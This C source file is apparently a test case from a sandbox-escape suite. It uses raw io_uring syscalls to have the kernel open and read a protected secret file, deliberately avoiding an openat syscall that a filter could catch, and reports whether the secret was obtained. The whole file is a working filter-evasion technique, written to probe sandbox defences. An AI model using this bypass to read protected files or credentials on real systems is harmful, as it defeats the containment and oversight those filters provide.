/* io_uring: IORING_OP_OPENAT + IORING_OP_READ of the key, performed by the kernel in its own
 * context (no openat syscall for a filter to see). Raw syscalls, no liburing. */
#include "../escape.h"
#include <linux/io_uring.h>
#include <sys/mman.h>
int main(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) {
        if (getenv("ESCAPE_NATIVE") && (errno == ENOSYS || errno == EPERM))
            NA("io_uring_setup: %s natively (disabled on this kernel)", strerror(errno));
        FAILED("io_uring_setup: %s", strerror(errno));
    }
    size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq
        : mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
        FAILED("mmap rings");
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned *chead = (unsigned *)(cq + p.cq_off.head);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    unsigned *cmask = (unsigned *)(cq + p.cq_off.ring_mask);

    /* 1: openat */
    struct io_uring_sqe *s = &sqes[0];
    memset(s, 0, sizeof *s);
    s->opcode = IORING_OP_OPENAT;
    s->fd = AT_FDCWD;
    s->addr = (unsigned long)secret_path();
    s->open_flags = O_RDONLY;
    array[*tail & *mask] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        FAILED("io_uring_enter: %s", strerror(errno));
    struct io_uring_cqe *c = &cqes[*chead & *cmask];
    int fd = c->res;
    __atomic_store_n(chead, *chead + 1, __ATOMIC_RELEASE);
    if (fd < 0)
        FAILED("IORING_OP_OPENAT: %s", strerror(-fd));
    /* 2: read */
    static char buf[4096];
    s = &sqes[1];
    memset(s, 0, sizeof *s);
    s->opcode = IORING_OP_READ;
    s->fd = fd;
    s->addr = (unsigned long)buf;
    s->len = sizeof buf;
    array[*tail & *mask] = 1;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        FAILED("io_uring_enter: %s", strerror(errno));
    c = &cqes[*chead & *cmask];
    int n = c->res;
    if (n > 0 && has_marker(buf, n))
        WON("read the secret through io_uring");
    FAILED("io_uring read gave no secret (%d)", n);
}
